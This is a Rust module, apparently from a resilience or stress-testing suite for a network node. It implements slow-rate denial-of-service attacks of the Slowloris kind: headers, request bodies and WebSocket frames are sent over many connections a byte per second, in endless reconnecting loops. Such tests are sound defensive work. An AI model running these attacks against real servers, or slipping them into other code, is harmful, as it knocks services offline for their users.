//! Requests and messages that never end, over all connections that there are.

use std::net::SocketAddr;
use std::time::Duration;

use futures_util::FutureExt as _;
use tokio::time::sleep;

use super::super::transport::websocket::upgraded;
use super::ground::Ground;
use super::wire::{Prepared, Tally, Wire, together};
use crate::Error;

/// Time between two bytes of a half.
const PAUSE: Duration = Duration::from_secs(1);

/// Headers that come byte by byte.
#[expect(clippy::unnecessary_wraps, reason = "an attack like the others")]
pub(super) fn headers(ground: &mut Ground) -> Result<Prepared, Error> {
    let head = format!("POST / HTTP/1.1\r\nhost: {}\r\nx-filler: ", ground.address);
    let filler = "x".repeat(30_000.min(ground.sizes.request_bytes));
    Ok(hold(ground, (head + &filler).into_bytes(), false))
}

/// Bodies of which the last bytes come one by one.
#[expect(clippy::unnecessary_wraps, reason = "an attack like the others")]
pub(super) fn bodies(ground: &mut Ground) -> Result<Prepared, Error> {
    let body = " ".repeat(ground.sizes.request_bytes);
    let mut request = ground.post(&body);
    request.truncate(request.len() - request.len() / 100);
    Ok(hold(ground, request, false))
}

/// Messages of WebSockets of which the last bytes come one by one.
#[expect(clippy::unnecessary_wraps, reason = "an attack like the others")]
pub(super) fn messages(ground: &mut Ground) -> Result<Prepared, Error> {
    let bytes = ground.sizes.request_bytes;
    // A text of so many bytes, masked with zeros.
    let mut frame = vec![0x81, 0xff];
    frame.extend_from_slice(&(bytes as u64).to_be_bytes());
    frame.extend_from_slice(&[0; 4]);
    frame.resize(frame.len() + bytes - bytes / 100, b' ');
    Ok(hold(ground, frame, true))
}

fn hold(ground: &Ground, half: Vec<u8>, is_websocket: bool) -> Prepared {
    let (address, connections) = (ground.address, ground.sizes.connections);
    Box::new(move |end| {
        let tally = Tally::default();
        let all =
            (0..connections).map(|_| trickle(address, (&half, is_websocket), &tally).boxed_local());
        together(end, &tally, all)
    })
}

/// Sends halves, one after the other, each until the node has enough of it.
async fn trickle(address: SocketAddr, (half, is_websocket): (&[u8], bool), tally: &Tally) {
    loop {
        if let Some(mut wire) = open(address, is_websocket).await {
            tally.sent();
            wire.trickle(half, PAUSE, tally).await;
        }
        tally.cut();
        sleep(PAUSE).await;
    }
}

async fn open(address: SocketAddr, is_websocket: bool) -> Option<Wire> {
    let wire = Wire::open(address).await.ok()?;
    if !is_websocket {
        return Some(wire);
    }
    let socket = upgraded(address, wire.into_stream()).await.ok()?;
    Wire::of(socket.into_inner()).ok()
}
